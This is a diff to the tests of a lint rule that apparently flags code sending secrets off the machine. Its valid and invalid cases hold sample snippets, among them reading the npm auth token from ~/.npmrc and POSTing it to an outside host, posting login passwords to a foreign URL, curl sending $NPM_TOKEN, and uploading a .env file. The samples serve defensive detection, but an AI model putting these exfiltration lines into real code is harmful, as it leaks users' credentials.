@@ -10,6 +10,12 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    // what a regular expression finds in an ordinary file, a database that is asked, and clients of frameworks that talk to their own server
+    { code: 'import { readFileSync } from "node:fs"; const found = /version=(.+)/.exec(readFileSync("./app.txt", "utf8")); fetch("https://x.example.app", { method: "POST", body: found[1] });' },
+    { code: 'import { readFileSync } from "node:fs"; const rows = database.exec(readFileSync(".npmrc", "utf8")); fetch("https://x.example.app", { method: "POST", body: rows });' },
+    { code: 'import { HttpClient } from "@angular/common/http"; class Auth { constructor(private readonly http: HttpClient) {} login(email: string, password: string) { return this.http.post("/api/login", { email, password }); } }', filename: 'src/auth.service.ts' },
+    { code: 'import { HttpService } from "@nestjs/axios"; class Auth { constructor(private readonly http: HttpService) {} login(email: string, password: string) { return this.http.post("https://id.example.app/oauth/token", { email, password }); } }', filename: 'src/auth.service.ts' },
+    { code: 'import { HttpClient } from "./client"; class Auth { constructor(private readonly http: HttpClient) {} login(password: string) { return this.http.post("https://x.example.app/in", { password }); } }', filename: 'src/auth.service.ts' },
     // names that the policy knows to hold no secret
     { code: 'fetch("https://x.example-service.com/?a=" + btoa(process.env.NPM_TOKEN));', settings: { allowedNames: ['NPM_*'] } },
     { code: 'curl -d "$NPM_TOKEN" https://in.example-service.com/x\n', filename: 'run.sh', settings: { allowedNames: ['NPM_TOKEN'] } },
@@ -182,6 +188,11 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import { readFileSync } from "node:fs"; import { homedir } from "node:os"; const token = /_authToken=(.+)/.exec(readFileSync(homedir() + "/.npmrc", "utf8"))?.[1]; fetch("https://x.example.app", { method: "POST", body: JSON.stringify({ token }) });', errors: [{ messageId: 'sent' }] },
+    { code: 'import { readFileSync } from "node:fs"; import { homedir } from "node:os"; const pattern = new RegExp("_authToken=(.+)"); const match = pattern.exec(readFileSync(homedir() + "/.npmrc", "utf8")); if (match) fetch("https://x.example.app", { method: "POST", body: match[1] });', errors: [{ messageId: 'sent' }] },
+    { code: 'import { HttpService } from "@nestjs/axios"; class Auth { constructor(private readonly http: HttpService) {} login(email: string, password: string) { this.http.axiosRef.post("https://x.example.app/in", { email, password }); this.http.post("https://x.example.app/in", { email, password }); } }', filename: 'src/auth.service.ts', errors: [{ messageId: 'credential' }, { messageId: 'credential' }] },
+    { code: 'import { HttpClient } from "@angular/common/http"; class Auth { private readonly http; constructor(http: HttpClient) { this.http = http; } login(email: string, password: string) { return this.http.post("https://x.example.app/in", { email, password }).subscribe(); } }', filename: 'src/auth.service.ts', errors: [{ messageId: 'credential' }] },
+    { code: 'import { inject } from "@angular/core"; import { HttpClient } from "@angular/common/http"; class Auth { http = inject(HttpClient); login(email, password) { return this.http.put("https://x.example.app/in", { email, password }); } }', errors: [{ messageId: 'credential' }] },
     { code: 'fetch("https://x.example-service.com/?a=" + btoa(process.env.NPM_TOKEN));', settings: { allowedNames: ['OTHER_TOKEN'] }, errors: [{ messageId: 'encoded' }] },
     { code: 'curl -d "$NPM_TOKEN" https://in.example-service.com/x\n', filename: 'run.sh', settings: { allowedNames: ['OTHER_TOKEN'] }, errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "node:fs"; fetch("https://x.example-service.com", { method: "POST", body: fs.readFileSync(".env") });', settings: { allowedNames: ['*'] }, errors: [{ messageId: 'sent' }] },
